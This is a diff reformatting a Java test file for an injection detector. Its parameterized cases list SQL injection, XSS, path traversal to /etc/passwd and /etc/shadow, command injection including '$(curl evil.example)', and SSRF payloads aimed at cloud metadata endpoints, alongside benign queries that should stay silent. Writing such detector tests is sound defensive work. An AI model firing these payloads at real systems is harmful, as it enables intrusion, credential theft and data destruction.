@@ -14,26 +14,28 @@ class InjectionDetectorTest {
     private final Replay replay = new Replay(new InjectionDetector(InjectionDetector.Settings.defaults()));
 
     @ParameterizedTest
-    @CsvSource(delimiter = '|', value = {
-            "/search | q=1%27%20OR%20%271%27%3D%271 | sql-injection",
-            "/search | q=x' union all select password from users-- | sql-injection",
-            "/items | id=1+or+1=1 | sql-injection",
-            "/items | id=1;%20DROP%20TABLE%20users | sql-injection",
-            "/items | id=1 AND sleep(5) | sql-injection",
-            "/comments | text=%3Cscript%3Ealert(1)%3C/script%3E | xss",
-            "/profile | name=<img src=x onerror=alert(1)> | xss",
-            "/files/..%2F..%2F..%2Fetc%2Fpasswd | | path-traversal",
-            "/download | file=../../../../etc/shadow | path-traversal",
-            "/download | file=%252e%252e%252fetc%252fpasswd | path-traversal",
-            "/ping | host=8.8.8.8;cat /etc/hosts | command-injection",
-            "/ping | host=x%7C%7Cwhoami | command-injection",
-            "/ping | host=$(curl evil.example) | command-injection",
-            "/fetch | url=http://169.254.169.254/latest/meta-data/iam | ssrf",
-            "/fetch | url=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1 | ssrf",
-            "/webhook | callback=http://127.0.0.1:8080/admin | ssrf",
-            "/webhook | callback=http://10.0.3.7/internal | ssrf",
-            "/import | source=file:///etc/hosts | ssrf",
-    })
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "/search | q=1%27%20OR%20%271%27%3D%271 | sql-injection",
+                "/search | q=x' union all select password from users-- | sql-injection",
+                "/items | id=1+or+1=1 | sql-injection",
+                "/items | id=1;%20DROP%20TABLE%20users | sql-injection",
+                "/items | id=1 AND sleep(5) | sql-injection",
+                "/comments | text=%3Cscript%3Ealert(1)%3C/script%3E | xss",
+                "/profile | name=<img src=x onerror=alert(1)> | xss",
+                "/files/..%2F..%2F..%2Fetc%2Fpasswd | | path-traversal",
+                "/download | file=../../../../etc/shadow | path-traversal",
+                "/download | file=%252e%252e%252fetc%252fpasswd | path-traversal",
+                "/ping | host=8.8.8.8;cat /etc/hosts | command-injection",
+                "/ping | host=x%7C%7Cwhoami | command-injection",
+                "/ping | host=$(curl evil.example) | command-injection",
+                "/fetch | url=http://169.254.169.254/latest/meta-data/iam | ssrf",
+                "/fetch | url=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1 | ssrf",
+                "/webhook | callback=http://127.0.0.1:8080/admin | ssrf",
+                "/webhook | callback=http://10.0.3.7/internal | ssrf",
+                "/import | source=file:///etc/hosts | ssrf",
+            })
     void payloadsInPathOrQueryAreDetected(String path, String query, String type) {
         replay.run(TestCalls.by("mallory").at(T0).query(query).raw("GET", path));
 
@@ -42,12 +44,24 @@ class InjectionDetectorTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {
-            "q=O'Brien", "q=rock+%26+roll", "q=select+a+plan", "q=drop+shipping+or+delivery",
-            "callback=https://partner.example.com/hooks/42", "name=Jean-Luc%20Picard", "filter=price%3E10",
-            "sort=-created&page=2", "q=100%25 cotton", "path=docs/v1.2/index.html", "email=alice%40example.com",
-            "q=what's new?", "redirect=https://app.example.org/home#top", "q=(draft)", "note=a;b",
-    })
+    @ValueSource(
+            strings = {
+                "q=O'Brien",
+                "q=rock+%26+roll",
+                "q=select+a+plan",
+                "q=drop+shipping+or+delivery",
+                "callback=https://partner.example.com/hooks/42",
+                "name=Jean-Luc%20Picard",
+                "filter=price%3E10",
+                "sort=-created&page=2",
+                "q=100%25 cotton",
+                "path=docs/v1.2/index.html",
+                "email=alice%40example.com",
+                "q=what's new?",
+                "redirect=https://app.example.org/home#top",
+                "q=(draft)",
+                "note=a;b",
+            })
     void ordinaryQueriesWithTheSameVolumeStaySilent(String query) {
         for (int i = 0; i < 100; i++) {
             replay.run(TestCalls.by("alice").at(T0 + i).query(query).plain("GET", "/search"));
